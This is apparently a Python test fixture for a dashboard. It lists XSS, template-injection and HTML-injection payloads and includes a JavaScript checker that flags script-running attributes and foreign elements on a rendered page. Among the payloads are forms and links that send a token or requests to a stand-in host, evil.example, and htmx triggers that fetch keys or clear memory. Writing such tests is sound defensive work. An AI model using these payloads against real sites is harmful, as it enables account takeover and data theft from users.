"""Texts that would do harm on a page which does not escape what is stored."""

from typing import Final

SCRIPTS: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "' autofocus onfocus=alert(1) x='",
    '" autofocus onfocus=alert(1) x="',
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>click</a>",
    "javascript:alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "{{ 7 * 7 }}{{ config.__class__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${alert(1)}",
    "<div hx-get=/dashboard/keys hx-trigger=load>",
    "<div data-hx-post=/dashboard/memory/clear hx-trigger=load></div>",
    "<form action=https://evil.example><input name=token></form>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>@import 'https://evil.example/a.css'; body { display: none }</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "![](https://evil.example/a.png) [x](javascript:alert(1))",
    "<object data=https://evil.example></object>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202egnp.exe\u2066 right to left \u2069<b onmouseover=alert(1)>b</b>",
    "W" * 400 + "<img/src/onerror=alert(1)>",
)
HARMFUL_ELEMENTS: Final = """() => {
  const found = [];
  const isOurs = (address) => address?.startsWith("/dashboard/assets/");
  const unwanted = ["IFRAME", "OBJECT", "EMBED", "BASE", "STYLE", "MATH", "B"];
  for (const element of document.querySelectorAll("*")) {
    const tag = element.tagName;
    for (const { name, value } of element.attributes) {
      const leads = ["href", "src", "action", "data"].includes(name);
      if (name.startsWith("on")) found.push(`${tag} ${name}`);
      if (leads && /^\\s*(javascript|https?):/i.test(value)) found.push(`${tag} ${value}`);
    }
    if (["SCRIPT", "IMG"].includes(tag) && !isOurs(element.getAttribute("src"))) found.push(tag);
    if (unwanted.includes(tag)) found.push(tag);
  }
  return found;
}"""
"""What a page must not have: attributes that run scripts, and elements that we never write."""
